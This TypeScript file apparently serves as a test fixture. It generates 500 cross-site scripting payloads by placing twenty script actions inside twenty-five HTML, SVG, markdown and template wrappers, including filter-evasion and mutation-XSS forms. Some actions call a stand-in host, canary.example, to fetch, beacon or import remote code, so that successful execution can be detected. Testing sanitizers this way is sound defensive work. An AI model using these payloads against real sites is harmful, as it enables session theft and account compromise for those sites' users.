// Five hundred texts that would be markup if anything took them for it: twenty deeds in twenty-five wrappings.

/** What a script would do. Each is noticed: by a mark on the window, a dialog, or a request that leaves our origin. */
const DEEDS: readonly string[] = [
  'window.__pwned=1',
  'top.__pwned=1',
  'parent.__pwned=1',
  'self["__pw"+"ned"]=1',
  'alert(1)',
  'confirm(1)',
  'prompt(1)',
  'print()',
  'fetch("//canary.example/f")',
  'navigator.sendBeacon("//canary.example/b")',
  'new Image().src="//canary.example/i"',
  'import("//canary.example/m.js")',
  'open("//canary.example/o")',
  'location="//canary.example/l"',
  'new WebSocket("wss://canary.example")',
  'document.write("<img src=//canary.example/w>")',
  'document.title="pwned"',
  'eval(atob("d2luZG93Ll9fcHduZWQ9MQ=="))',
  'setTimeout("window.__pwned=1")',
  'Function("window.__pwned=1")()',
];

/** `%` is the deed. */
const WRAPPINGS: readonly string[] = [
  '<script>%</script>',
  '</script><script>%</script>',
  '<ScRiPt >%</sCrIpT>',
  '<script src=//canary.example/s.js>%</script>',
  "<img src=x onerror='%'>",
  "<img src=//canary.example/p.png onload='%'>",
  "<svg onload='%'>",
  "<svg><animate onbegin='%' attributeName=x dur=1s>",
  '<svg><script>%</script></svg>',
  "<body onload='%'>",
  "<iframe src='javascript:%'></iframe>",
  "<iframe srcdoc='<script>%</script>'></iframe>",
  "<a href='javascript:%'>tap</a>",
  "<details open ontoggle='%'>x</details>",
  "<input autofocus onfocus='%'>",
  "<video><source onerror='%'></video>",
  "<object data='javascript:%'></object>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror='%'>",
  "<noscript><p title='</noscript><img src=x onerror=%>'>",
  "<style>@import '//canary.example/c.css'</style><b onclick='%'>x</b>",
  "'\"><img src=x onerror='%'>",
  '[tap](javascript:%)',
  '![see](//canary.example/m.png "%")',
  '{{constructor.constructor("%")()}}${%}',
  '&lt;img src=x onerror=%&gt;<!--><img src=x onerror=%>-->',
];

export const PAYLOADS: readonly string[] = WRAPPINGS.flatMap((wrapping) =>
  DEEDS.map((deed) => wrapping.replaceAll('%', () => deed)),
);
